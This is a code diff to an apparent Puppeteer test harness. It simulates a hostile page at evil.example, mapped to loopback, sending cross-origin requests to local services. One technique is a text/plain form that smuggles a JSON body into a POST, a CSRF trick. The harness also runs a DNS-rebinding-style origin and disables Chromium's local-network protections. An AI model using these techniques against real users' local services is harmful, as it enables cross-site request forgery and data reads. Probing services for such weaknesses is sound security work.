@@ -19,10 +19,14 @@ async function send({ port, path, body, headers }, way, host, patience) {
     Object.assign(form, { method: "post", enctype: "text/plain", action: url, target: "answer" });
     field.name = body.replace(/\}$/, `${body === "{}" ? "" : ","}"more":"`);
     field.value = '"}';
-    const frame = document.body.appendChild(document.createElement("iframe"));
+    const frame = document.createElement("iframe");
     frame.name = "answer";
+    document.body.appendChild(frame);
     form.submit();
-    await new Promise((loaded) => frame.addEventListener("load", loaded));
+    await new Promise((loaded) => {
+      frame.addEventListener("load", loaded);
+      setTimeout(loaded, patience);
+    });
     try {
       return frame.contentDocument.body.innerText;
     } catch {
@@ -52,24 +56,36 @@ async function attack(browser, request, origin, host) {
     if (outgoing.url().endsWith(PAGE)) outgoing.respond({ contentType: "text/html", body: "<!doctype html><body>" });
     else outgoing.continue();
   });
-  page.on("response", (answer) => {
-    if (answer.url().includes(`:${request.port}${request.path}`)) seen[way].statuses.push(answer.status());
+  const mine = (url) => url.includes(`:${request.port}${request.path}`);
+  page.on("response", (answer) => mine(answer.url()) && seen[way].statuses.push(answer.status()));
+  // Those, too, whose answer the browser keeps from the page.
+  const urls = {};
+  const network = await page.createCDPSession();
+  await network.send("Network.enable");
+  network.on("Network.requestWillBeSent", (sent) => (urls[sent.requestId] = sent.request.url));
+  network.on("Network.responseReceivedExtraInfo", (answer) => {
+    if (mine(urls[answer.requestId] ?? "")) seen[way].statuses.push(answer.statusCode);
   });
   await page.goto(`${origin}${PAGE}`);
   for (way of ["form", "text", "nocors", "untyped", "headers", "get"]) {
     seen[way] = { statuses: [] };
     seen[way].read = await page.evaluate(send, request, way, host, PATIENCE);
+    await new Promise((passed) => setTimeout(passed, 100)); // what the browser tells us comes beside the answer
   }
   await page.close();
   return seen;
 }
 
-const browser = await launch("--host-resolver-rules=MAP evil.example 127.0.0.1");
+const browser = await launch(
+  "--host-resolver-rules=MAP evil.example 127.0.0.1",
+  // Of late, Chromium itself keeps pages from the loopback. Not every browser does, and users may allow it.
+  "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
+);
 try {
   const seen = [];
   for (const request of JSON.parse(process.argv[2])) {
     seen.push({
-      foreign: await attack(browser, request, "http://evil.example:1", "127.0.0.1"),
+      foreign: await attack(browser, request, "http://evil.example", "127.0.0.1"),
       rebound: await attack(browser, request, `http://evil.example:${request.port}`, "evil.example"),
     });
   }
